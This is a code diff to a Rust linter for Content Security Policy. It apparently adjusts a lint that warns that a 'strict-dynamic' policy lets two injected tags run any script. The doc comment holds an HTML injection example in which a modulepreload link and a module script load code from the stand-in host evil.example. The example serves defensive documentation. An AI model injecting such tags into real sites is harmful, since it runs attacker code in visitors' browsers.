@@ -1,4 +1,5 @@
 use super::csp_bypassable_host::{bypass, evaluates};
+use crate::csp::attack::MODULEPRELOAD;
 use crate::csp::{ALLOW_SCRIPTS, Clause, Csp, Directive, Disposition, Keyword, Purpose, SourceExpression};
 use crate::diagnostic::Diagnostic;
 use crate::lint::report::{Report, lint};
@@ -24,8 +25,7 @@ lint! {
     /// An attacker who can inject two tags runs any script, without a nonce and without a report:
     ///
     /// ```html
-    /// <link rel="modulepreload" href="https://evil.example/a.js">
-    /// <script type="module" src="https://evil.example/a.js"></script>
+    /// <link rel="modulepreload" href="https://evil.example/"><script type="module" src="https://evil.example/"></script>
     /// ```
     ///
     /// # Example
@@ -86,7 +86,7 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
                 format!("`strict_dynamic` in `{}` lets two injected tags run any script", list.directive.node.key()),
             )
             .help(help(list, enforced.iter().find_map(|other| leak(other, policy.form))))
-            .note("an injected `<link rel=modulepreload>` fetches a module from anywhere, and an injected `<script type=module>` runs it; a second policy stops that, except for files on the hosts that it names, such as uploads"),
+            .note(format!("an injected `{}` fetches a module from anywhere and runs it; a second policy stops that, except for files on the hosts that it names, such as uploads", MODULEPRELOAD.of_attacker())),
         );
     }
 }
